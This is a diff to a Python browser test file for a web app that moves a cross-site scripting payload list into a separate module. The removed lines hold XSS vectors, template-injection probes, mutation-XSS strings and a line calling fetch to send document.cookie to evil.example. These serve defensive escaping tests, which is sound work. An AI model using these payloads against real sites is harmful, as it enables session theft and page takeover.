@@ -4,7 +4,6 @@ import json
 from collections.abc import Iterator, Mapping
 from dataclasses import dataclass
 from functools import cache
-from itertools import cycle, product
 from pathlib import Path
 from typing import Any
 from urllib.parse import quote, urlsplit
@@ -14,28 +13,12 @@ from werkzeug.datastructures import FileStorage
 from werkzeug.test import encode_multipart
 
 from tests.browser import IN_CHROMIUM, SIZES, Screens, Window
+from tests.browsing.payloads import PAYLOADS
 from tests.console import PNG
 from tests.journeys import TOWNSHIP, VILLAGE, Json, attach, decide, draft, publish, put, submit
 from tests.processes import Answer, Wire
 
 pytestmark = IN_CHROMIUM
-
-EVENTS = ("onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter")
-TAGS = ("img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "iframe src=//evil.example", "a")
-OPENINGS = ("<", '"><', "'><", "</title><", "</textarea><", "--><")
-RUNS = "window.ran=1;fetch('//evil.example/'+document.cookie)"
-PAYLOADS = [
-    f'{opening}{tag} {event}="{RUNS}">'
-    for (tag, event), opening in zip(product(TAGS, EVENTS), cycle(OPENINGS), strict=False)
-]
-PAYLOADS += [f"<script>{RUNS}</script>", "<script src=//evil.example/x.js></script>", f"javascript:{RUNS}"]
-PAYLOADS += [
-    "<base href=//evil.example>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<style>*{color:red}</style>",
-]
-PAYLOADS += ["<meta http-equiv=refresh content=0;url=//evil.example>", "{{ ''.__class__ }}{% raw %}", "${7*7}", "<!--"]
-PAYLOADS += [f"<math><mtext><table><mglyph><style><img src=x onerror={number}>" for number in range(130)]
 
 
 @dataclass
